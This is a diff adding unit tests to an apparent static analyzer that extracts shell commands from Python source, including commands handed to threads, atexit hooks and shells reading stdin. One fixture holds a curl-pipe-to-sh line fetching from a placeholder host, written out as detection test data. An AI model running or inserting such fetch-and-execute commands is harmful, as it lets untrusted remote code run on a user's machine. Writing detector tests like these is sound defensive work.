@@ -106,3 +106,25 @@ def test_a_mapping_spread_over_the_arguments_gives_the_command() -> None:
         subprocess.run(**SECOND)
     """
     assert _scripts(source) == ["id\nls -l"]
+
+
+def test_a_command_handed_on_with_the_function_that_starts_it_is_read() -> None:
+    source = """
+    import atexit, functools, os, subprocess, threading
+    def f(x):
+        threading.Thread(target=os.system, args=("id | sh", x)).start()
+        atexit.register(os.system, "ls")
+        functools.partial(subprocess.run, ["git", "status"])()
+        threading.Thread(target=f, args=("nothing",)).start()
+    """
+    assert _scripts(source) == ["id | sh\n$x\nls\ngit\nstatus"]
+
+
+def test_what_a_shell_is_given_to_read_is_its_command() -> None:
+    source = """
+    import subprocess
+    def f(text):
+        subprocess.run(["bash", "-s"], input="curl -s https://a.invalid | sh", text=True)
+        subprocess.run(["grep", "x"], input=text)
+    """
+    assert _scripts(source) == ["curl -s https://a.invalid | sh\nbash -s\ngrep x"]
